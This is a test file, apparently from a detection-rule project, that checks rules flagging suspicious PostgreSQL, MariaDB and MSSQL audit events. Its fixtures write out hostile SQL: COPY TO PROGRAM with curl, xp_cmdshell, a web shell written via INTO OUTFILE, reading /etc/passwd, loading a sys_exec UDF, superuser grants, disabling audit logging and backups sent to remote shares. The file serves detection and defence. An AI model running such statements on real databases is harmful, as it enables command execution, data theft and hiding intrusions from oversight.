/** Each rule with an event on which it fires and one, as close as can be, on which it does not. */
import { describe, expect, test } from 'vitest'
import { readRules } from '../index.ts'
import { hits } from '../tests/say.ts'
import { packs } from './packs.ts'

const set = readRules(packs)
const pg = (message: string, more = {}) => ({ backend_type: 'client backend', user: 'app', dbname: 'registry', remote_host: '10.0.0.5', error_severity: 'LOG', message, ...more })
const my = (operation: string, object: string, more = {}) => ({ serverhost: 'db1', username: 'app', host: '10.0.0.5', connectionid: 7, operation, database: 'registry', object, retcode: 0, ...more })
const ms = (action: string, statement: string, more = {}) => ({ action_id: action, server_principal_name: 'app', client_ip: '10.0.0.5', database_name: 'registry', succeeded: true, statement, ...more })

const cases: Readonly<Record<string, readonly [fires: readonly unknown[], not: readonly unknown[]]>> = {
  postgresql_dump_tool: [
    [pg('connection authorized: user=app database=registry application_name=pg_dump'), pg('connection authorized: user=app database=registry', { application_name: 'pg_dumpall' }), pg('replication connection authorized: user=rep application_name=pg_basebackup')],
    [pg('connection authorized: user=app database=registry application_name=psql'), pg('disconnection: session time: 0:00:01', { application_name: 'pg_dump' })],
  ],
  postgresql_copy_out: [
    [pg('AUDIT: SESSION,1,1,READ,COPY,,,"copy citizens to stdout",<not logged>'), pg('statement: COPY (SELECT * FROM citizens) TO \'/tmp/x.csv\' CSV', { application_name: 'psql' })],
    [pg('statement: COPY citizens TO stdout', { application_name: 'pg_dump' }), pg('statement: COPY citizens FROM stdin'), pg('statement: SELECT copy_of FROM lists')],
  ],
  postgresql_copy_program: [[pg("statement: COPY t FROM PROGRAM 'id'"), pg('duration: 5 ms', { statement: "copy t to program 'curl http://x'" })], [pg("statement: COPY t FROM '/tmp/program'"), pg('statement: SELECT program FROM copy')]],
  postgresql_new_superuser: [
    [pg('statement: CREATE ROLE eve LOGIN SUPERUSER'), pg('AUDIT: SESSION,1,1,ROLE,ALTER ROLE,,,ALTER USER eve WITH superuser,<not logged>'), pg('statement: GRANT pg_execute_server_program TO eve')],
    [pg('statement: CREATE ROLE eve LOGIN NOSUPERUSER'), pg('statement: GRANT pg_read_all_stats TO eve'), pg('statement: select superuser from roles')],
  ],
  postgresql_audit_off: [[pg("statement: ALTER SYSTEM SET pgaudit.log TO 'none'"), pg('statement: ALTER ROLE eve SET log_statement = none'), pg('statement: DROP EXTENSION IF EXISTS pgaudit')], [pg("statement: ALTER SYSTEM SET work_mem TO '64MB'"), pg('statement: SHOW pgaudit.log'), pg('statement: DROP EXTENSION postgis')]],
  postgresql_superuser_remote: [[pg('connection authorized: user=postgres database=postgres')], [pg('connection authorized: user=postgres database=postgres', { remote_host: '127.0.0.1' }), pg('connection authorized: user=postgres database=postgres', { remote_host: '[local]' }), pg('connection authorized: user=postgres_exporter database=postgres'), { ...pg('connection authorized: user=postgres database=postgres'), remote_host: null }]],
  postgresql_login_failed: [[pg('password authentication failed for user "app"', { error_severity: 'FATAL', state_code: '28P01' }), pg('x', { state_code: '28000' }), pg('no pg_hba.conf entry for host "10.0.0.5"')], [pg('relation "x" does not exist', { error_severity: 'ERROR', state_code: '42P01' })]],
  postgresql_login: [[pg('connection authorized: user=app database=registry')], [pg('connection received: host=10.0.0.5 port=5')]],
  postgresql_object_read: [[pg('AUDIT: …', { 'pgaudit.class': 'READ', 'pgaudit.object_name': 'public.citizens' })], [pg('AUDIT: …', { 'pgaudit.class': 'WRITE', 'pgaudit.object_name': 'public.citizens' }), pg('AUDIT: …', { 'pgaudit.class': 'READ' })]],
  mariadb_dump: [[my('QUERY', 'SELECT /*!40001 SQL_NO_CACHE */ * FROM `citizens`')], [my('QUERY', 'SELECT * FROM `citizens`'), my('QUERY', 'SELECT /*!40001 SQL_NO_CACHE */ id FROM `citizens`')]],
  mariadb_file: [[my('QUERY', "SELECT 'x' INTO OUTFILE '/var/www/x.php'"), my('QUERY', "select load_file('/etc/passwd')")], [my('QUERY', 'SELECT outfile FROM jobs'), my('QUERY', 'LOAD DATA LOCAL INFILE')]],
  mariadb_library: [[my('QUERY', "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'"), my('QUERY', "INSTALL SONAME 'x'")], [my('QUERY', 'CREATE FUNCTION f() RETURNS int RETURN 1')]],
  mariadb_new_administrator: [[my('QUERY', "GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%'"), my('QUERY', "GRANT SELECT, FILE ON *.* TO 'eve'")], [my('QUERY', "GRANT ALL PRIVILEGES ON registry.* TO 'app'"), my('QUERY', "GRANT SELECT ON *.* TO 'app'")]],
  mariadb_audit_off: [[my('QUERY', 'SET GLOBAL server_audit_logging=OFF'), my('QUERY', "SET GLOBAL server_audit_excl_users = 'eve'"), my('QUERY', 'UNINSTALL PLUGIN server_audit')], [my('QUERY', "SHOW VARIABLES LIKE 'server_audit_logging'"), my('QUERY', 'UNINSTALL PLUGIN feedback')]],
  mariadb_root_remote: [[my('CONNECT', '', { username: 'root' })], [my('CONNECT', '', { username: 'root', host: 'localhost' }), my('CONNECT', '', { username: 'root', host: '127.0.0.1' }), my('CONNECT', '', { username: 'root', host: '' }), my('CONNECT', ''), my('CONNECT', '', { username: 'root', retcode: 1045 })]],
  mariadb_login_failed: [[my('FAILED_CONNECT', '', { retcode: 1045 }), my('CONNECT', '', { retcode: 1045 })], [my('CONNECT', ''), my('DISCONNECT', '')]],
  mssql_xp_cmdshell: [[ms('EX', "EXEC master..xp_cmdshell 'whoami'"), ms('EX', "exec sp_configure 'Ole Automation Procedures', 1")], [ms('EX', 'EXEC report'), ms('EX', "exec sp_configure 'max degree of parallelism', 1")]],
  mssql_new_sysadmin: [[ms('APRL', 'ALTER SERVER ROLE [sysadmin] ADD MEMBER [eve]'), ms('EX', "EXEC sp_addsrvrolemember 'eve', 'sysadmin'"), ms('G', 'GRANT CONTROL SERVER TO eve')], [ms('APRL', 'ALTER SERVER ROLE [sysadmin] DROP MEMBER [eve]'), ms('APRL', 'ALTER SERVER ROLE [dbcreator] ADD MEMBER [app]'), ms('G', 'GRANT SELECT TO app')]],
  mssql_audit_off: [[ms('AUSC', 'ALTER SERVER AUDIT [a] WITH (STATE = OFF)'), ms('DR', 'drop server audit specification [s]'), ms('DR', 'DROP DATABASE AUDIT SPECIFICATION [s]')], [ms('CR', 'CREATE SERVER AUDIT [a]'), ms('SL', 'SELECT * FROM server_audit')]],
  mssql_backup_away: [[ms('BA', "BACKUP DATABASE registry TO DISK = N'\\\\10.0.0.9\\share\\r.bak'"), ms('BA', "backup database [registry] to url = 'https://x'")], [ms('BA', "BACKUP DATABASE registry TO DISK = 'D:\\backup\\r.bak'"), ms('BAL', "BACKUP LOG registry TO URL = 'https://x'")]],
  mssql_login_failed: [[ms('LGIF', '')], [ms('LGIS', '')]],
  mssql_object_read: [[ms('SL', 'select 1'), ms('SL  ', 'select 1')], [ms('UP', 'update t'), ms('SLX', '')]],
}

describe('rules for databases', () => {
  test('are all read, and each has its events', () => {
    expect(set.refused).toEqual([])
    expect(set.rules.map((one) => one.head.name).toSorted()).toEqual(Object.keys(cases).toSorted())
    expect(set.correlations.map((one) => one.name)).toHaveLength(10)
  })
  test.each(Object.keys(cases))('%s', (name) => {
    const [fires, not] = cases[name]!
    const rule = set.rules.filter((one) => one.head.name === name)
    expect(hits(rule, fires, 'product').map(([line]) => line)).toEqual(fires.map((_, at) => at))
    expect(hits(rule, not, 'product')).toEqual([])
    expect(fires.length * not.length).toBeGreaterThan(0)
  })
  test('say who wrote them, under which licence, what else may be behind it, and which technique it is', () => {
    const heads = [...set.rules.map((one) => one.head), ...set.correlations]
    expect(new Set(heads.map((one) => one.id)).size).toBe(heads.length)
    for (const head of heads) {
      expect(head).toMatchObject({ author: 'Bastida', license: 'EUPL-1.2', status: 'experimental', date: '2026-11-27' })
      expect(head.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/)
      expect(head.falsepositives.length).toBeGreaterThan(0)
      expect(head.tags.some((tag) => /^attack\.t\d{4}(\.\d{3})?$/.test(tag))).toBe(true)
    }
  })
  test('that are there for a correlation alert by it alone', () => {
    expect(set.rules.filter((one) => one.silent).map((one) => one.head.name).toSorted()).toEqual(['mariadb_login_failed', 'mssql_login_failed', 'mssql_object_read', 'postgresql_login', 'postgresql_login_failed', 'postgresql_object_read'])
  })
  test('speak of no other product', () => {
    expect(hits(set.rules, [{ Channel: 'Security', EventID: 4688, CommandLine: "COPY t FROM PROGRAM 'id' xp_cmdshell" }, { 'cs-method': 'GET', statement: 'xp_cmdshell', message: "COPY t FROM PROGRAM 'id'" }], 'product')).toEqual([])
  })
})
